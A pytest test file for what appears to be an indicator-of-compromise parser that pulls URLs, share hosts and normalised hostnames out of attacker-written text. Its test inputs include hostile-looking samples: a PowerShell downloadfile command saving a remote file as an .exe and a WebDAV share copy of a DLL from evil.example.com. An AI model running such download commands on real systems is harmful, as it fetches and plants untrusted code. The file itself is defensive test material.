"""Addresses in what attackers wrote, and what their hosts are."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gateway.iocs.names import Host, host_of, shares, split, urls


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("http://evil.example.com/a.exe", ["http://evil.example.com/a.exe"]),
        (
            "Fetches a remote template when it is opened: HTTPS://Evil.example.com/t.dotm",
            ["HTTPS://Evil.example.com/t.dotm"],
        ),
        ("(new-object net.webclient).downloadfile('http://a.example.com/x','c:\\y.exe')", ["http://a.example.com/x"]),
        ("http://a.example.com/x@https://b.example.com/y@", ["http://a.example.com/x", "https://b.example.com/y"]),
        ("http://a.example.com/1,http://b.example.com/2*", ["http://a.example.com/1", "http://b.example.com/2"]),
        (
            "http://web.example.com/go?u=http://other.example.com/",
            ["http://web.example.com/go?u=http://other.example.com/"],
        ),
        ("http://cut.example.com/long…", ["http://cut.example.com/long…"]),
        ("no address, httpx://a.example.com/", []),
    ],
)
def test_addresses_are_found(text: str, found: list[str]) -> None:
    assert list(urls(text)) == found


def test_hosts_of_shares() -> None:
    told = r"copy \\evil.example.com@SSL@8080\DavWWWRoot\x.dll and \\files\office, C:\\temp\x"
    assert list(shares(told)) == ["evil.example.com", "files"]


@pytest.mark.parametrize(
    ("raw", "host"),
    [
        ("Evil.Example.COM.", Host(name="evil.example.com")),
        ("münchen.example.de", Host(name="xn--mnchen-3ya.example.de")),
        ("8.8.8.8", Host(address="8.8.8.8")),
        ("0x08080808", Host(address="8.8.8.8")),
        ("010.010.010.010", Host(address="8.8.8.8")),
        ("2001:4860:4860::8888", Host(address="2001:4860:4860::8888")),
        ("127.0.0.1", Host(why="no address of the public Internet")),
        ("192.168.1.1", Host(why="no address of the public Internet")),
        ("co.uk", Host(why="a public suffix")),
        ("github.io", Host(why="a public suffix")),
        ("com", Host(why="no name for DNS")),
        ("fileserver", Host(why="no name for DNS")),
        ("fileserver.lan", Host(why="no name of the public DNS")),
        ("a..example.com", Host(why="no name for DNS")),
        ("-a.example.com", Host(why="no name for DNS")),
        ("a b.example.com", Host(why="no name for DNS")),
        ("evil.example.com\nbank.example.org", Host(why="no name for DNS")),
        ("*.example.com", Host(why="no name for DNS")),
        ("x" * 64 + ".example.com", Host(why="no name for DNS")),
        ("a." * 120 + "example.com", Host(why="no name for DNS")),
        ("", Host(why="no name for DNS")),
    ],
)
def test_what_a_host_is(raw: str, host: Host) -> None:
    assert host_of(raw) == host


@pytest.mark.parametrize(
    ("url", "whole"),
    [
        ("HTTP://Evil.Example.com", "http://evil.example.com/"),
        ("http://bank.example.org@evil.example.com:8080/a?b=c#d", "http://evil.example.com:8080/a?b=c"),
        ("http://0x08080808/cc.html", "http://8.8.8.8/cc.html"),
        ("http://[2001:4860:4860::8888]/x", "http://[2001:4860:4860::8888]/x"),
        ("http://evil.example.com/ü%20x", "http://evil.example.com/%C3%BC%20x"),
        ("http://evil.example.com/cut…", ""),
        ("http://evil.exam…", ""),
        ("http://evil.example.com:99999/", ""),
        ("http://[::1/", ""),
    ],
)
def test_an_address_is_told_as_it_is_asked_for_or_not_at_all(url: str, whole: str) -> None:
    assert split(url)[0] == whole


def test_the_host_of_an_address_cut_behind_it_is_known() -> None:
    assert split("http://evil.example.com/cut…")[1] == Host(name="evil.example.com")
    assert split("http://evil.exam…")[1] == Host(why="cut short")


ADDRESS = re.compile(r"(?:https?|ftps?)://[!-~]+")
NAME = re.compile(r"[a-z0-9_-]+(?:\.[a-z0-9_-]+)+")


@given(st.text(max_size=80), st.sampled_from(["http://", "ftp://a.example.com/", "https://x@", "\\\\", "http://["]))
def test_whatever_was_written_only_names_and_addresses_come_out(text: str, prefix: str) -> None:
    for raw in [*urls(prefix + text), text]:
        whole, host = split(raw)
        assert not whole or ADDRESS.fullmatch(whole)
        assert not host.name or NAME.fullmatch(host.name)
        assert bool(host.why) is not bool(host.name or host.address)
    for raw in shares(prefix + text):
        assert host_of(raw)
